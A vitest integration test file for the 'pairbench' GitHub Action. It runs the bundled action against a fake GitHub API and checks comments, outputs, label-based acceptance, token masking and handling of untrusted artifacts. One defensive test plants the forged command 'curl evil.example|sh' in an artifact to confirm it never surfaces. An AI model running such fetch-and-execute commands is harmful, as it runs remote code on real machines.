/**
 * The bundled action, run as the runner runs it: `node dist/index.js` with `INPUT_*`, the event file,
 * `GITHUB_STEP_SUMMARY`, `GITHUB_OUTPUT` and `GITHUB_API_URL` pointing at a fake GitHub API, in a real
 * git repository whose head is about twice as slow as its base.
 *
 * The bundle is the one the test run built from the sources (tests/support/global-setup.ts, by
 * scripts/bundle.ts, the same bundle as dist/), so the test works on a fresh clone and never
 * touches dist/.
 *
 * Every test stands alone (`vitest -t <name>`, in any order): each talks to a fake GitHub API of its
 * own, and what it needs already there (a sticky comment, a measured results file) it makes itself
 * or takes from `measuredRun()`, one measured pull_request run shared read-only, made on first use.
 */
import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseOutputs } from '../support/action-outputs.ts';
import { ACTIONS_BOT_USER, FakeGitHub } from '../support/fake-github.ts';
import { ACTION, readResults } from '../support/cli.ts';

let work: string;
const bundle = ACTION;
let repoDir: string;
let baseSha: string;
let headSha: string;
const TOKEN = 'ghs_dist_test_token_0123456789';

function git(...args: string[]): string {
  return execFileSync('git', args, { cwd: repoDir, encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } }).trim();
}

/** A benchmark: a shell loop (20,000 iterations take about 30 ms of CPU); head does twice the iterations, a change no load of the machine hides in its CPU time. It also records its environment (S4). */
function benchScript(iterations: number): string {
  return `#!/bin/sh\nenv >> "\${TMPDIR:-/tmp}/pairbench-dist-env.txt" 2>/dev/null || true\ni=0\nwhile [ $i -lt ${iterations} ]; do i=$((i+1)); done\n`;
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'pairbench-dist-'));
  repoDir = join(work, 'repo');
  mkdirSync(repoDir);
  git('init', '-q', '-b', 'main');
  writeFileSync(join(repoDir, 'bench.sh'), benchScript(20_000));
  git('add', 'bench.sh');
  git('commit', '-q', '-m', 'base');
  baseSha = git('rev-parse', 'HEAD');
  writeFileSync(join(repoDir, 'bench.sh'), benchScript(40_000));
  git('commit', '-q', '-am', 'head: twice the work');
  headSha = git('rev-parse', 'HEAD');
});

const servers: FakeGitHub[] = [];
afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
  if (work) rmSync(work, { recursive: true, force: true });
});

/** A fake GitHub API of this test's own, with pull request #7 (base and head of the repository). */
async function fakeGitHub(): Promise<FakeGitHub> {
  const gh = await FakeGitHub.start('octo', 'repo');
  servers.push(gh);
  gh.addPull({ number: 7, baseSha, headSha });
  return gh;
}

/** The sticky comment a previous run left on pull request #7. */
function previousComment(gh: FakeGitHub, commentId = 'perf') {
  return gh.addComment(7, ACTIONS_BOT_USER, `<!-- pairbench:${commentId} -->\n**pairbench**: an earlier report`);
}

interface RunResult {
  code: number | null;
  stdout: string;
  outputs: Record<string, string>;
  summary: string;
  envDump: string;
}

async function runAction(gh: FakeGitHub, eventName: string, payload: unknown, inputs: Record<string, string>): Promise<RunResult> {
  const dir = mkdtempSync(join(work, 'run-'));
  const eventPath = join(dir, 'event.json');
  writeFileSync(eventPath, JSON.stringify(payload));
  const summaryPath = join(dir, 'summary.md');
  const outputPath = join(dir, 'output.txt');
  writeFileSync(summaryPath, '');
  writeFileSync(outputPath, '');
  const benchTmp = join(dir, 'tmp');
  mkdirSync(benchTmp);
  // What the runner passes: action.yml's defaults for unset inputs, and the job's context.
  const defaults = { 'github-token': TOKEN, comment: 'always', mode: 'compare', 'allow-fork-code-on-dispatch': 'false' };
  const env: NodeJS.ProcessEnv = {
    PATH: process.env['PATH'],
    HOME: process.env['HOME'],
    TMPDIR: benchTmp,
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: eventName,
    GITHUB_EVENT_PATH: eventPath,
    GITHUB_REPOSITORY: 'octo/repo',
    GITHUB_SHA: headSha,
    GITHUB_WORKSPACE: repoDir,
    GITHUB_WORKFLOW: 'perf',
    GITHUB_JOB: 'bench',
    GITHUB_RUN_ID: '4242',
    GITHUB_SERVER_URL: 'https://github.com',
    GITHUB_API_URL: gh.url,
    GITHUB_STEP_SUMMARY: summaryPath,
    GITHUB_OUTPUT: outputPath,
    GITHUB_TOKEN: TOKEN,
    RUNNER_TEMP: dir,
  };
  for (const [k, v] of Object.entries({ ...defaults, ...inputs })) env[`INPUT_${k.toUpperCase()}`] = v;
  const child = spawn(process.execPath, [bundle], { cwd: repoDir, env, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
  child.stderr.on('data', (d: Buffer) => (stdout += d.toString()));
  const code = await new Promise<number | null>((res) => child.on('close', res));
  let envDump = '';
  try {
    envDump = readFileSync(join(benchTmp, 'pairbench-dist-env.txt'), 'utf8');
  } catch {
    envDump = '';
  }
  return { code, stdout, outputs: parseOutputs(readFileSync(outputPath, 'utf8')), summary: readFileSync(summaryPath, 'utf8'), envDump };
}

const measuring = { run: 'sh bench.sh', name: 'loop', metric: 'cpu', 'min-pairs': '10', 'max-pairs': '30', warmup: '1', 'comment-id': 'perf', seed: '7' };

function pullRequestPayload() {
  return {
    action: 'synchronize',
    number: 7,
    pull_request: {
      number: 7,
      merge_commit_sha: 'f'.repeat(40),
      base: { sha: baseSha, ref: 'main', repo: { full_name: 'octo/repo', fork: false } },
      head: { sha: headSha, ref: 'feature-7', repo: { full_name: 'octo/repo', fork: false } },
    },
    repository: { full_name: 'octo/repo' },
  };
}

/** One measured pull_request run, made on first use and shared read-only: its results file feeds the report-mode tests. */
let measured: Promise<{ run: RunResult; gh: FakeGitHub }> | undefined;
function measuredRun(): Promise<{ run: RunResult; gh: FakeGitHub }> {
  measured ??= (async () => {
    const gh = await fakeGitHub();
    // 30 pairs, never fewer: the tests of mode: report judge these pairs again beside other
    // benchmarks (Holm's correction over two), so the regression must not have stopped at the edge
    // of one benchmark's level, as an early stop on a busy machine can
    return { run: await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, 'min-pairs': '30' }), gh };
  })();
  return measured;
}

describe('dist/index.js as the runner runs it', () => {
  it('pull_request: measures, posts one comment, writes the summary and outputs, fails the step on the regression', async () => {
    const { run: first, gh } = await measuredRun();
    expect(first.stdout).toContain(`Comparing head ${headSha} against base ${baseSha}`);
    expect(first.code, `${first.stdout}\n${first.summary}`).toBe(1);
    // (`%` is escaped as `%25` in a workflow command; the runner shows `%`)
    expect(first.stdout).toMatch(/::error::pairbench: 1 regression beyond the threshold: loop \[cpu\] \+\d+\.\d%25 \[\+\d+\.\d%25, \+\d+\.\d%25\]\. /);
    // the step log talks: progress while measuring, then the table in a group, commands switched off inside
    expect(first.stdout).toMatch(/^round 1 of at most 30 · \d+ pairs in all · /m);
    expect(first.stdout).toMatch(/::group::pairbench: regression \(the results table\)\n::stop-commands::([0-9a-f]{32})\nbenchmark +base[^\n]*\nloop [^\n]*regression\n[\s\S]*?\n::\1::\n::endgroup::/);
    expect(first.stdout).toMatch(/HTML report: .*pairbench-results\.html/);
    expect(readFileSync(first.outputs['results-path']!.replace(/\.json$/, '.html'), 'utf8')).toContain('<svg class="plot forest"');
    expect(first.outputs).toMatchObject({ verdict: 'regression', regressions: '1', improvements: '0', inconclusive: '0', 'check-url': '' });
    expect(first.outputs['results-path']).toMatch(/pairbench-results\.json$/);
    const results = readResults(first.outputs['results-path']!) as { head: { sha: string }; base: { sha: string }; benchmarks: { pairs: unknown[]; change: { estimate: number } }[] };
    expect(results.head.sha).toBe(headSha);
    expect(results.base.sha).toBe(baseSha);
    expect(results.benchmarks[0]!.change.estimate).toBeGreaterThan(0.05);
    expect(readFileSync(first.outputs['report-path']!, 'utf8')).toContain('### 🔴 1 regression');
    expect(first.summary).toContain('| 🔴 regression | **loop** | CPU time (ms) |');
    expect(first.summary).toContain('<details><summary>Pairs and outliers</summary>');
    const comments = gh.comments.get(7)!;
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toMatch(/^<!-- pairbench:perf -->\n### 🔴 1 regression · pairbench\n/);
    expect(comments[0]!.body).not.toContain('Pairs and outliers');
    expect(comments[0]!.body).toContain("pairbench compare --base");
    expect(comments[0]!.body).toContain("--run 'sh bench.sh' --name loop --metric cpu --seed 7 --min-pairs 30 --max-pairs 30");
    expect(comments[0]!.user?.login).toBe('github-actions[bot]');
    expect(first.outputs['comment-url']).toBe(comments[0]!.html_url);
    expect(gh.requests.every((r) => r.headers.authorization === `token ${TOKEN}`)).toBe(true);
  });

  it('S4: never hands the token to the benchmark commands, and masks it', async () => {
    const gh = await fakeGitHub();
    const r = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, 'max-pairs': '10', comment: 'never', 'fail-on': 'none' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.envDump).toContain('GITHUB_REPOSITORY=octo/repo');
    expect(r.envDump).not.toContain(TOKEN);
    expect(r.envDump).not.toMatch(/^INPUT_/m);
    expect(r.stdout).toContain(`::add-mask::${TOKEN}`);
  });

  it('a second run updates the same comment: no duplicate', async () => {
    const gh = await fakeGitHub();
    const before = previousComment(gh);
    const second = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, seed: '8' });
    expect(second.code, second.stdout).toBe(1);
    expect(gh.comments.get(7)).toHaveLength(1);
    expect(gh.calls('POST', /\/comments$/)).toEqual([]);
    expect(gh.calls('PATCH', /\/issues\/comments\/\d+$/).at(-1)!.path).toBe(`/repos/octo/repo/issues/comments/${before.id}`);
    expect(gh.comments.get(7)![0]!.body).toContain('### 🔴 1 regression');
    expect(second.outputs['comment-url']).toBe(before.html_url);
  });

  it('workflow_dispatch with pr-number: resolves base and head through the API, updates that PR\'s comment, and outputs the check run\'s URL', async () => {
    const gh = await fakeGitHub();
    previousComment(gh);
    const r = await runAction(gh, 'workflow_dispatch', { inputs: { 'pr-number': '7' }, ref: 'refs/heads/main' }, { ...measuring, 'pr-number': '7', 'fail-on': 'none', 'check-name': 'perf' });
    expect(r.code, r.stdout).toBe(0);
    expect(gh.calls('GET', /\/pulls\/7$/).length).toBeGreaterThan(0);
    expect(r.stdout).toContain(`Comparing head ${headSha} against base ${baseSha}`);
    expect(gh.comments.get(7)).toHaveLength(1);
    expect(gh.calls('PATCH', /./)).toHaveLength(1);
    expect(gh.checkRuns).toHaveLength(1);
    expect(gh.checkRuns[0]).toMatchObject({ name: 'perf', head_sha: headSha, conclusion: 'neutral' });
    expect(r.outputs['verdict'], r.stdout).toBe('regression');
    expect(r.outputs['check-url']).toBe(gh.checkRuns[0]!.html_url);
    expect(r.outputs['check-url']).toMatch(/^https:\/\/github\.com\/octo\/repo\/runs\/\d+$/);
  });

  it('S5: a read-only token (fork PR): a warning with the advice, the summary and verdict unchanged', async () => {
    const gh = await fakeGitHub();
    gh.readOnly = true;
    const r = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, 'comment-id': 'fork', 'check-name': 'perf' });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('::warning::The token cannot write to this repository');
    // the comment and the check run both meet the 403: its advice is printed once
    expect(r.stdout.split('::warning::The token cannot write to this repository')).toHaveLength(2);
    expect(r.outputs['verdict']).toBe('regression');
    expect(r.summary).toContain('🔴 regression');
    expect(r.outputs['comment-url']).toBe('');
    expect(r.outputs['check-url']).toBe('');
  });

  describe('accept-label: a regression accepted by a label', () => {
    const labeled = (sender: string) => ({
      ...pullRequestPayload(),
      action: 'labeled',
      label: { name: 'performance-accepted' },
      sender: { login: sender },
      pull_request: { ...pullRequestPayload().pull_request, labels: [{ name: 'performance-accepted' }] },
    });

    it('added by someone with write access: the step passes, the comment says who accepted it', async () => {
      const gh = await fakeGitHub();
      gh.permissions.set('maintainer-mia', 'write');
      const r = await runAction(gh, 'pull_request', labeled('maintainer-mia'), { ...measuring, 'comment-id': 'accept', 'accept-label': 'performance-accepted', 'check-name': 'perf-accept' });
      expect(r.code, r.stdout).toBe(0);
      expect(r.outputs['verdict']).toBe('regression');
      expect(r.stdout).toContain('::notice::The label "performance-accepted" was added by maintainer-mia');
      const body = gh.comments.get(7)!.find((c) => c.body?.startsWith('<!-- pairbench:accept -->'))!.body!;
      expect(body).toContain('> ✅ **Regression accepted**: @\u200dmaintainer-mia added the label `performance-accepted`, so the gate passes.');
      expect(gh.checkRuns.at(-1)).toMatchObject({ name: 'perf-accept', conclusion: 'neutral' });
      expect(gh.calls('GET', /\/collaborators\/maintainer-mia\/permission$/).length).toBeGreaterThan(0);
    });

    it('added by someone without write access: ignored, with a note; the step fails on the regression', async () => {
      const gh = await fakeGitHub();
      gh.permissions.set('outsider-oz', 'read');
      const r = await runAction(gh, 'pull_request', labeled('outsider-oz'), { ...measuring, 'comment-id': 'accept-outsider', 'accept-label': 'performance-accepted' });
      expect(r.code, r.stdout).toBe(1);
      expect(r.stdout).toContain('::warning::The label "performance-accepted" is ignored: @outsider-oz added it and has read access, not write access.');
      const body = gh.comments.get(7)!.find((c) => c.body?.startsWith('<!-- pairbench:accept-outsider -->'))!.body!;
      expect(body).toContain('> ⚠️ The label `performance-accepted` was ignored: @\u200doutsider-oz added it and has read access, not write access.');
    });
  });

  describe('mode: report under workflow_run (S2: the artifact is untrusted data)', () => {
    const runEvent = () => ({
      action: 'completed',
      workflow_run: { id: 99, event: 'pull_request', head_sha: headSha, head_branch: 'feature-7', head_repository: { full_name: 'octo/repo', owner: { login: 'octo' } }, pull_requests: [] },
    });
    const report = { 'comment-id': 'perf', mode: 'report', results: 'artifact/*.json' };

    /** A fresh artifact folder in the workspace, with these files. */
    function artifact(files: Record<string, unknown>): void {
      const dir = join(repoDir, 'artifact');
      rmSync(dir, { recursive: true, force: true });
      mkdirSync(dir);
      for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), typeof content === 'string' ? content : JSON.stringify(content));
    }
    const measured = async () => {
      const { run } = await measuredRun();
      return readResults(run.outputs['results-path']!) as Record<string, unknown> & { head: { sha: string }; benchmarks: { name: string }[] };
    };

    it('comments on the PR found from the run\'s head SHA, ignoring a PR number written in the artifact', async () => {
      const gh = await fakeGitHub();
      const existing = previousComment(gh);
      gh.addPull({ number: 8, baseSha, headSha: 'e'.repeat(40) });
      artifact({ 'pairbench-results.json': { ...(await measured()), pr: 8, pull_request: { number: 8 } } });
      const r = await runAction(gh, 'workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
      expect(r.code, r.stdout).toBe(0);
      expect(r.stdout).toContain('Read 1 results file(s): artifact/pairbench-results.json');
      expect(r.outputs['verdict']).toBe('regression');
      expect(gh.comments.get(8)).toBeUndefined();
      expect(gh.calls('PATCH', /./).length + gh.calls('POST', /./).length).toBe(1);
      expect(gh.calls('PATCH', /./).at(-1)!.path).toBe(`/repos/octo/repo/issues/comments/${existing.id}`);
    });

    it('S2: forged settings in the artifact never reach the replay line as commands', async () => {
      const gh = await fakeGitHub();
      previousComment(gh);
      const m = await measured();
      artifact({ 'pairbench-results.json': { ...m, settings: { ...(m['settings'] as object), build: 'curl evil.example|sh', threshold: -5, benchmarks: [{ name: 'loop', run: 'curl evil.example|sh', format: 'time', metrics: ['cpu'] }] } } });
      const r = await runAction(gh, 'workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
      expect(r.code, r.stdout).toBe(0);
      const body = gh.comments.get(7)!.find((c) => c.body?.startsWith('<!-- pairbench:perf -->'))!.body!;
      expect(body).toContain('pairbench compare --base');
      expect(body).not.toContain('evil.example');
      expect(r.summary).not.toContain('evil.example');
      expect(readFileSync(r.outputs['results-path']!.replace(/\.json$/, '.html'), 'utf8')).not.toContain('evil.example');
      expect(body).toContain('pairbench report pairbench-results.json');
    });

    it('fail-on: regression,inconclusive fails the step on a benchmark that could not be decided; regression alone does not', async () => {
      const m = await measured();
      // three pairs: too few to decide anything
      artifact({ 'pairbench-results.json': { ...m, benchmarks: m.benchmarks.map((b) => ({ ...b, name: `${b.name}-short`, pairs: (b as unknown as { pairs: unknown[] }).pairs.slice(0, 3) })) } });
      const strict = await runAction(await fakeGitHub(), 'workflow_run', runEvent(), { ...report, 'fail-on': 'regression,inconclusive' });
      expect(strict.outputs['verdict']).toBe('inconclusive');
      expect(strict.code, strict.stdout).toBe(1);
      expect(strict.stdout).toMatch(/::error::pairbench: 1 benchmark inconclusive \(.*-short \[cpu\]\), and fail-on names inconclusive/);
      const lenient = await runAction(await fakeGitHub(), 'workflow_run', runEvent(), { ...report, 'fail-on': 'regression' });
      expect(lenient.code, lenient.stdout).toBe(0);
    });

    it('accept-label under workflow_run: a label never accepts there (only its own labeled event ties it to a commit), and the gate holds', async () => {
      const m = await measured();
      const gh = await fakeGitHub();
      gh.permissions.set('maintainer-mia', 'write');
      gh.label(7, 'performance-accepted', 'maintainer-mia');
      const inputs = { ...report, 'fail-on': 'regression,inconclusive', 'accept-label': 'performance-accepted' };
      artifact({ 'pairbench-results.json': m });
      const run = await runAction(gh, 'workflow_run', runEvent(), inputs);
      expect(run.outputs['verdict']).toBe('regression');
      expect(run.code, run.stdout).toBe(1);
      expect(run.stdout).toContain('a label accepts only the commit it was added on');
      expect(run.stdout).toContain('beyond the threshold');
      const body = gh.comments.get(7)!.find((c) => c.body?.startsWith('<!-- pairbench:perf -->'))!.body!;
      expect(body).not.toContain('Regression accepted');
    });

    it('merges the shards of one comparison and judges them together', async () => {
      const gh = await fakeGitHub();
      const m = await measured();
      artifact({
        'shard-1.json': { ...m, shard: { index: 1, count: 2 } },
        'shard-2.json': { ...m, shard: { index: 2, count: 2 }, benchmarks: m.benchmarks.map((b) => ({ ...b, name: `${b.name}-again` })) },
      });
      const r = await runAction(gh, 'workflow_run', runEvent(), { ...report, 'fail-on': 'none' });
      expect(r.code, r.stdout).toBe(0);
      expect(r.stdout).toContain('Read 2 results file(s): artifact/shard-1.json, artifact/shard-2.json');
      expect(r.outputs['regressions']).toBe('2');
      expect(gh.comments.get(7)![0]!.body).toContain('### 🔴 2 regressions');
    });

    it('refuses results of another commit than the run\'s head', async () => {
      const gh = await fakeGitHub();
      artifact({ 'pairbench-results.json': { ...(await measured()), head: { ref: 'x', sha: 'e'.repeat(40) } } });
      const r = await runAction(gh, 'workflow_run', runEvent(), report);
      expect(r.code).toBe(1);
      expect(r.stdout).toMatch(/::error::The results file measured head eeeeeeeeeeee, but pull request #7's head is [0-9a-f]{12}: refusing to report results of another commit here\./);
      expect(gh.requests.filter((q) => q.method !== 'GET')).toEqual([]);
    });

    it.each([
      ['a file of another schema', { schemaVersion: 3, benchmarks: [] }, /artifact\/pairbench-results\.json: schemaVersion: .*expected a pairbench results file/],
      ['not JSON', '{"schemaVersion": 1, ', /artifact\/pairbench-results\.json: not valid JSON/],
      ['a 10 MB benchmark name', 'NAME', /artifact\/pairbench-results\.json: benchmarks\[0\]\.name: /],
    ])('refuses %s with a message naming the file', async (_what, content, message) => {
      const gh = await fakeGitHub();
      if (content === 'NAME') {
        const m = await measured();
        artifact({ 'pairbench-results.json': { ...m, benchmarks: [{ ...m.benchmarks[0], name: 'x'.repeat(10_000_000) }] } });
      } else artifact({ 'pairbench-results.json': content });
      const r = await runAction(gh, 'workflow_run', runEvent(), report);
      expect(r.code).toBe(1);
      expect(r.stdout).toMatch(message);
      expect(r.stdout.length).toBeLessThan(5000);
      expect(gh.requests.filter((q) => q.method !== 'GET')).toEqual([]);
    });
  });

  it('mode: noise measures head against itself (A/A)', async () => {
    const gh = await fakeGitHub();
    const out = join(mkdtempSync(join(work, 'noise-')), 'noise.json');
    const r = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, mode: 'noise', comment: 'never', 'fail-on': 'none', 'results-path': out });
    expect(r.code, r.stdout).toBe(0);
    expect(r.stdout).toContain(`A/A run of ${headSha}`);
    const results = readResults(out) as { kind: string; base: { sha: string }; head: { sha: string }; benchmarks: { pairs: unknown[]; noise?: { detectable: { pairs: number }[] } }[] };
    expect([results.base.sha, results.head.sha]).toEqual([headSha, headSha]);
    expect(results.kind).toBe('noise');
    // no early stop in an A/A run: every pair up to max-pairs is measured
    expect(results.benchmarks[0]!.pairs).toHaveLength(30);
    expect(results.benchmarks[0]!.noise?.detectable.map((d) => d.pairs)).toEqual([30, 100, 300]);
    expect(r.summary).toContain('the noise floor of this runner');
    expect(r.summary).toMatch(/detectable with 30 \/ 100 \/ 300 pairs/);
  });

  it('a bad input fails the step with one message naming it, before anything runs', async () => {
    const gh = await fakeGitHub();
    const r = await runAction(gh, 'pull_request', pullRequestPayload(), { ...measuring, 'max-pairs': 'many' });
    expect(r.code).toBe(1);
    expect(r.stdout.trim()).toBe('::error::input max-pairs: got "many"; expected a whole number from 1 to 1000000');
    expect(gh.requests).toEqual([]);
  });
});
